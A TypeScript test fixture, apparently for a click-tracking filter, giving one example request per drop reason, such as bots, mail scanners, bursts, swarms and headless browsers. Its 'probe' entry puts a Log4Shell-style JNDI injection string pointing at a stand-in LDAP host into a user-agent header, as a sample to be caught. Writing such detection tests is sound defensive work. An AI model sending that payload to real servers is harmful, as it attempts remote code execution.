import type { LaterReason } from '../corrections/asked.ts'
import type { DropReason } from '../rules.ts'
import { visitorsPerAddress, visitsPerMinute } from './burst.ts'
import { chrome, firefox, links, type Request } from './scenarios.fixture.ts'
import { linksOfScan } from './scanner.ts'
import { visitorsPerNetwork } from './swarm.ts'

/** Requests in a row, and what becomes of each. */
export interface Example { requests: readonly Request[]; told: readonly (DropReason | null)[] }

const only = (reason: DropReason, request: Partial<Request>): Example => ({ requests: [{ after: 0, ...request }], told: [reason] })
const clicks = (count: number): null[] => Array.from({ length: count }, () => null)

/** What each rule leaves out, and no other does; the reasons that come afterwards are no rule's. */
export const examples: Readonly<Record<Exclude<DropReason, LaterReason>, Example>> = {
  head: only('head', { method: 'HEAD' }),
  prefetch: only('prefetch', { purpose: 'prefetch' }),
  preview_robot: only('preview_robot', { agent: 'Twitterbot/1.0' }),
  robot: only('robot', { agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }),
  empty_agent: only('empty_agent', { agent: '' }),
  mail_scanner: only('mail_scanner', { agent: 'Mozilla/5.0 (compatible; Barracuda Sentinel)' }),
  listed_network: only('listed_network', { listed: true }),
  sharer: only('sharer', { own: true }),
  burst: { requests: Array.from({ length: visitsPerMinute + 1 }, () => ({ after: 10_000 })), told: [...clicks(visitsPerMinute), 'burst'] },
  removed: only('removed', { removed: true }),
  impossible_agent: only('impossible_agent', { agent: 'Mozilla/5.0 Firefox/140.0' }),
  head_first: { requests: [{ after: 0, method: 'HEAD' }, { after: 1_000 }], told: ['head', 'head_first'] },
  many_links: { requests: links(linksOfScan, 100), told: Array.from({ length: linksOfScan }, () => 'many_links') },
  repeat: { requests: [{ after: 0 }, { after: 1_000 }], told: [null, 'repeat'] },
  crowd: {
    requests: Array.from({ length: visitorsPerAddress + 1 }, (_, index) => ({ after: 100, agent: `${firefox} ${index}` })), told: [...clicks(visitorsPerAddress), 'crowd'],
  },
  swarm: {
    requests: Array.from({ length: visitorsPerNetwork + 1 }, (_, index) => ({ after: 100, ip: `203.0.113.${index}` })), told: [...clicks(visitorsPerNetwork), 'swarm'],
  },
  not_opened: only('not_opened', { purpose: 'no-cors' }),
  no_language: only('no_language', { agent: chrome, accept_language: undefined }),
  tool: only('tool', { agent: 'axios (Linux x86_64; build 4)' }),
  probe: only('probe', { agent: `${firefox} \${jndi:ldap://a.example}` }),
  contact: only('contact', { agent: 'Somebody (a@b.co)' }),
  headless: only('headless', { agent: `${firefox} webdriver` }),
}
